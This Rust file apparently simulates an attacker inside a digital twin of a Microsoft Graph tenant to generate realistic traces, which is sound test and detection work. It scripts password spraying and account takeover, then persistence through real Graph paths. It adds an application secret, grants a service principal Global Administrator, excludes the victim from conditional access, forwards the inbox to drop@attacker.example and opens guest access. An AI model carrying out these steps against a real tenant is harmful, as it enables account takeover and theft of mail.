//! An attacker in the tenant: guesses passwords, takes an account over if the policies let it, and digs in.
//! The seed chooses the victims; every step leaves the traces it would leave in the books of the real service.

use serde_json::{Value, json};

use crate::signins::{Proof, SignIn};
use crate::{EditError, Twin};

/// Accounts whose passwords are guessed.
const GUESSES: usize = 12;
/// Where the attacker sits: a documentation network.
const ADDRESS: &str = "198.51.100.66";
const COUNTRY: &str = "KP";
/// Global Administrator.
const ROLE: &str = "62e90394-69f5-4237-9190-012177145e10";
const ASSIGNMENTS: &str = "/v1.0/roleManagement/directory/roleAssignments";
const POLICIES: &str = "/v1.0/identity/conditionalAccess/policies";

/// One thing the attacker tried.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackStep {
    /// For example `take an account over`.
    pub what: &'static str,
    /// Whom or what it hit: a sign-in name or a Graph path.
    pub target: String,
    /// What the tenant said.
    pub outcome: Result<(), EditError>,
}

struct Attacker<'t> {
    twin: &'t Twin,
    /// Whose account acts.
    account: String,
    steps: Vec<AttackStep>,
}

/// Runs the whole attack; it ends early where the policies keep the attacker out.
pub(crate) fn run(twin: &Twin, seed: u64) -> Vec<AttackStep> {
    let users =
        twin.edit("GET", "/v1.0/users?$top=999&$select=id,userPrincipalName,accountEnabled,userType", None);
    let users =
        rows(users).into_iter().filter(|user| user["accountEnabled"] == true && user["userType"] == "Member");
    let names: Vec<Value> = users.collect();
    let chosen = |step: u64| pick(&names, seed.wrapping_add(step));
    let Some(victim) = chosen(0) else { return Vec::new() };
    let account = victim["userPrincipalName"].as_str().unwrap_or_default().to_owned();
    let mut attacker = Attacker { twin, account, steps: Vec::new() };
    for step in 0..GUESSES as u64 {
        if let Some(name) = chosen(step).and_then(|user| user["userPrincipalName"].as_str()) {
            attacker.sign_in("guess a password", name, Proof::WrongPassword);
        }
    }
    let account = attacker.account.clone();
    if attacker.sign_in("take an account over", &account, Proof::Password) {
        attacker.dig_in(victim, seed);
    }
    attacker.steps
}

impl Attacker<'_> {
    /// One attempt over an old protocol; whether it let the attacker in.
    fn sign_in(&mut self, what: &'static str, name: &str, proof: Proof) -> bool {
        let attempt = SignIn {
            client: "IMAP4".to_owned(),
            country: COUNTRY.to_owned(),
            address: ADDRESS.to_owned(),
            platform: "linux".to_owned(),
            risk: "high".to_owned(),
            proof,
            ..SignIn::new(name)
        };
        let record = self.twin.sign_in(&attempt);
        let inside = record.as_ref().is_ok_and(|record| record["status"]["errorCode"] == 0);
        self.steps.push(AttackStep { what, target: name.to_owned(), outcome: record.map(|_| ()) });
        inside
    }

    /// What an attacker with administrative rights does to stay.
    fn dig_in(&mut self, victim: &Value, seed: u64) {
        let id = victim["id"].clone();
        let apps = rows(self.twin.edit("GET", "/v1.0/applications?$top=999&$select=id", None));
        if let Some(app) = pick(&apps, seed) {
            let path = format!("/v1.0/applications/{}/addPassword", text(&app["id"]));
            let body = json!({"passwordCredential": {"displayName": "backup", "endDateTime": "2099-01-01T00:00:00Z"}});
            self.write("add a secret to an application", "POST", &path, &body);
        }
        let principals = rows(self.twin.edit("GET", "/v1.0/servicePrincipals?$top=999&$select=id", None));
        if let Some(principal) = pick(&principals, seed) {
            let body =
                json!({"principalId": principal["id"], "roleDefinitionId": ROLE, "directoryScopeId": "/"});
            self.write("make a service principal Global Administrator", "POST", ASSIGNMENTS, &body);
        }
        let policies = rows(self.twin.edit("GET", POLICIES, None));
        let everybody = |policy: &&Value| {
            policy["state"] != "disabled" && policy["conditions"]["users"]["includeUsers"] == json!(["All"])
        };
        if let Some(policy) = policies.iter().find(everybody) {
            let mut conditions = policy["conditions"].clone();
            if let Some(excluded) = conditions["users"]["excludeUsers"].as_array_mut() {
                excluded.push(id);
            }
            let path = format!("{POLICIES}/{}", text(&policy["id"]));
            self.write(
                "exclude the account from a policy",
                "PATCH",
                &path,
                &json!({"conditions": conditions}),
            );
        }
        let path = format!("/v1.0/users/{}/mailFolders/inbox/messageRules", text(&victim["id"]));
        let forward = json!({"forwardTo": [{"emailAddress": {"address": "drop@attacker.example"}}]});
        let body = json!({"displayName": ".", "sequence": 1, "isEnabled": true, "actions": forward});
        self.write("forward mail outside", "POST", &path, &body);
        let open = json!({"allowInvitesFrom": "everyone", "guestUserRoleId": "a0b1b346-4d3e-4e8b-98f8-753987be4970"});
        self.write("open the tenant to guests", "PATCH", "/v1.0/policies/authorizationPolicy", &open);
    }

    fn write(&mut self, what: &'static str, method: &str, path: &str, body: &Value) {
        let outcome = self.twin.edit_as(&self.account, method, path, Some(body)).map(|_| ());
        self.steps.push(AttackStep { what, target: path.to_owned(), outcome });
    }
}

fn rows(body: Result<Value, EditError>) -> Vec<Value> {
    body.ok().and_then(|body| body["value"].as_array().cloned()).unwrap_or_default()
}

fn text(value: &Value) -> &str {
    value.as_str().unwrap_or_default()
}

fn pick(list: &[Value], seed: u64) -> Option<&Value> {
    let count = u64::try_from(list.len()).ok().filter(|count| *count > 0)?;
    list.get(usize::try_from(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) % count).ok()?)
}
